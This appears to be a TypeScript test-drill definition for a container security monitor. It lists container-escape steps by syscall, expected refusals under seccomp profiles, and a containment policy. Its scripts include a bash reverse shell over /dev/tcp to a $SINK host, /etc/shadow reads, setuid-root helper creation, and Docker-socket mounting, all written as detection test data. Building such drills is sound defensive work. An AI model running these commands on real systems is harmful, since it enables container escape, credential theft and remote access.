import type { FindingKind, Severity } from '../../monitor/model/finding.ts';

/** How a container is started for a step: as engines do, or with nothing in its way. */
export const profiles = ['default', 'unconfined'] as const;

export type Profile = (typeof profiles)[number];

/** One step out of the container, and what is to be told of it. */
export interface DrillStep {
  readonly name: string;
  /** A shell script; `$NEIGHBOUR` is another process of the container, /drill the drill's program. */
  readonly script: string;
  readonly kind: FindingKind;
  /** In the finding's sentence. */
  readonly tells: string;
  /** The errors by which the engine's default profile, or the kernel, refuse it; undefined: it succeeds. */
  readonly refused: Readonly<Record<Profile, RegExp | undefined>>;
  readonly severity: Readonly<Record<Profile, Severity>>;
  /** What it needs to succeed without a profile. */
  readonly capabilities?: readonly string[];
}

/** Refused by the default profile, and open to who has the capabilities. */
const behindProfile = {
  kind: 'escape-attempt',
  refused: { default: /EPERM/, unconfined: undefined },
  severity: { default: 'medium', unconfined: 'high' },
} as const;

/** Never refused. */
const open = {
  kind: 'escape-attempt',
  refused: { default: undefined, unconfined: undefined },
  severity: { default: 'high', unconfined: 'high' },
} as const;

/** Refused also without a profile, for want of rights. */
const closed = {
  kind: 'escape-attempt',
  refused: { default: /EPERM/, unconfined: /EPERM|ENOSYS/ },
  severity: { default: 'medium', unconfined: 'medium' },
} as const;

const admin = ['SYS_ADMIN'];
const mild = { default: 'low', unconfined: 'low' } as const;
const medium = { default: 'medium', unconfined: 'medium' } as const;

/** A step of the drill's own program, by the call that it makes. */
const call = (name: string, tells: string, about = '') => ({
  name,
  script: `/drill ${name} ${about}`,
  tells: `\`${tells}\``,
});

/** Everything that an attacker tries on the way out. */
export const steps: readonly DrillStep[] = [
  { ...open, ...call('ptrace', 'ptrace', '$NEIGHBOUR') },
  { ...behindProfile, ...call('mount', 'mount'), capabilities: admin },
  { ...behindProfile, ...call('unshare', 'unshare'), capabilities: admin },
  { ...behindProfile, ...call('setns', 'setns'), capabilities: admin },
  { ...open, ...call('packet', 'socket') },
  { ...open, ...call('raw', 'socket') },
  { ...open, ...call('engine', 'connect') },
  { ...open, ...call('memory', 'openat', '$NEIGHBOUR') },
  { ...closed, ...call('module', 'init_module') },
  { ...behindProfile, ...call('keyctl', 'keyctl') },
  { ...behindProfile, ...call('bpf', 'bpf'), capabilities: admin },
  { ...closed, ...call('kexec', 'kexec_load') },
  { ...closed, ...call('pivot', 'pivot_root') },
  { ...behindProfile, ...call('process-vm', 'process_vm_readv', '$NEIGHBOUR') },
  { ...behindProfile, ...call('userfaultfd', 'userfaultfd'), capabilities: ['SYS_PTRACE'] },
  { ...behindProfile, ...call('perf', 'perf_event_open'), capabilities: admin },
  // The same again, as whoever knows the sensor would do it.
  { ...open, ...call('packet-wide', 'socket') },
  { ...open, ...call('packet-old', 'socket') },
  { ...open, ...call('engine-by-link', 'connect') },
  { ...open, ...call('memory-by-folder', 'openat', '$NEIGHBOUR') },
  { ...behindProfile, ...call('process-vm-covered', 'process_vm_readv', '$NEIGHBOUR') },
  { ...open, ...call('memory-covered', 'openat', '$NEIGHBOUR') },
  { ...open, ...call('flooded', 'ptrace', '$NEIGHBOUR') },
  {
    ...open,
    name: 'crowded',
    script: '/drill crowded',
    tells: 'not looked at',
    severity: medium,
  },
  {
    ...behindProfile,
    ...call('pidfd-getfd', 'pidfd_getfd', '$NEIGHBOUR'),
    capabilities: ['SYS_PTRACE'],
  },
  { ...behindProfile, ...call('open-tree', 'open_tree'), capabilities: admin },
  { ...closed, ...call('iopl', 'iopl') },
  {
    ...open,
    name: 'shadow-refused',
    script: "setpriv --reuid 1000 --clear-groups sh -c 'cd /tmp; cat ../etc//shadow; true'",
    tells: '/etc/shadow',
    refused: { default: /EACCES/, unconfined: /EACCES/ },
    severity: medium,
  },
  { ...open, ...call('io-uring', 'io_uring_setup'), severity: mild },
  {
    ...open,
    name: 'shadow',
    script: 'cat /etc/shadow >/dev/null',
    tells: '/etc/shadow',
  },
  {
    ...open,
    name: 'named-useradd',
    script: 'cp /bin/cat /tmp/useradd; /tmp/useradd /etc/shadow >/dev/null',
    tells: '/etc/shadow',
  },
  {
    ...open,
    name: 'credentials',
    script: 'mkdir -p ~/.aws; echo x >~/.aws/credentials; cat ~/.aws/credentials',
    tells: '/.aws/credentials',
    severity: medium,
  },
  {
    ...closed,
    name: 'root-in-vain',
    script: "setpriv --reuid 1000 --clear-groups sh -c '/drill setuid; true'",
    tells: '`setuid`',
  },
  {
    ...open,
    name: 'root',
    script:
      "cp /drill /usr/local/bin/helper; chmod 4755 /usr/local/bin/helper; setpriv --reuid 1000 --clear-groups sh -c '/usr/local/bin/helper setuid; true'",
    tells: '`setuid`',
    severity: medium,
  },
  {
    ...open,
    name: 'set-uid',
    script:
      "cp /bin/sleep /usr/local/bin/helper; chmod 4755 /usr/local/bin/helper; setpriv --reuid 1000 --clear-groups sh -c '/usr/local/bin/helper 600; true'",
    tells: 'set-uid bit',
    severity: medium,
  },
  {
    ...open,
    name: 'reverse-shell',
    script: '/drill reverse-shell $SINK',
    kind: 'reverse-shell',
    tells: 'on a connection to',
  },
  {
    ...open,
    name: 'bash-on-tcp',
    script: `bash -c 'sh -c "sleep 600" <>/dev/tcp/$SINK/9 >&0 2>&0'`,
    kind: 'reverse-shell',
    tells: 'on a connection to',
  },
  {
    ...open,
    name: 'dropped',
    script: 'cp /bin/sleep /tmp/update; /tmp/update 600',
    kind: 'dropped-program',
    tells: '/tmp/update',
    severity: medium,
  },
  {
    ...open,
    name: 'dropped-on-mount',
    script: 'cp /bin/sleep /tmp/update; /tmp/update 600',
    kind: 'dropped-program',
    tells: '/tmp/update',
    severity: medium,
  },
  {
    ...open,
    name: 'from-memory',
    script: '/drill from-memory',
    kind: 'dropped-program',
    tells: 'from memory',
  },
];

/** How the container of a step is made. `socket` is the engine's own, mounted as careless people do. */
export function hostConfigOf(
  { name, capabilities }: DrillStep,
  profile: Profile,
  program: string,
  socket: string,
): Readonly<Record<string, unknown>> {
  const mounts = [
    { Type: 'bind', Source: program, Target: '/drill', ReadOnly: true },
    ...(name.startsWith('engine')
      ? [{ Type: 'bind', Source: socket, Target: '/var/run/docker.sock' }]
      : []),
  ];
  // A path goes on where a file system is mounted.
  const tmpfs = name === 'dropped-on-mount' ? { Tmpfs: { '/tmp': 'rw,exec' } } : {};
  if (profile === 'default') return { Mounts: mounts, ...tmpfs };
  return {
    Mounts: mounts,
    ...tmpfs,
    SecurityOpt: ['seccomp=unconfined'],
    CapAdd: capabilities ?? [],
  };
}

/** Adds a user, installs, compiles and runs what it compiled, tests, keeps versions: all day long. */
export const ordinaryWork = `mkdir -p /tmp/p/DEBIAN /tmp/w; cd /tmp/w
printf 'Package: worker\\nVersion: 1\\nArchitecture: all\\nMaintainer: A <a@b.c>\\nDescription: d\\n' >/tmp/p/DEBIAN/control
printf '#!/bin/sh\\nadduser --system --group --no-create-home workerd || useradd -r -M workerd\\n' >/tmp/p/DEBIAN/postinst
chmod 755 /tmp/p/DEBIAN/postinst; dpkg-deb -b /tmp/p /tmp/worker.deb
while :; do
  useradd -M worker; userdel worker
  apt-get install -y --reinstall /tmp/worker.deb
  userdel workerd
  echo 'int main(void) { return 0; }' >m.c; gcc -o m m.c && ./m
  python3 -c 'assert sorted([2, 1]) == [1, 2]'
  rm -rf r; git init -q r && git -C r -c user.name=a -c user.email=a@b.c commit -q --allow-empty -m one
  echo round >>/tmp/rounds; sleep 1
done >/dev/null 2>&1`;

/** What the drill is about is frozen and cut off, as often as there is reason to. */
export const containEscapes = `version: 1
mode: enforce
limits:
  actionsPerMinute: 600
rules:
  - name: contain
    when: |
      finding.severity >= medium && finding.kind in
      ["escape-attempt", "reverse-shell", "dropped-program", "unusual-process"]
    do: [notify, pause]
    cooldown: 1s
`;
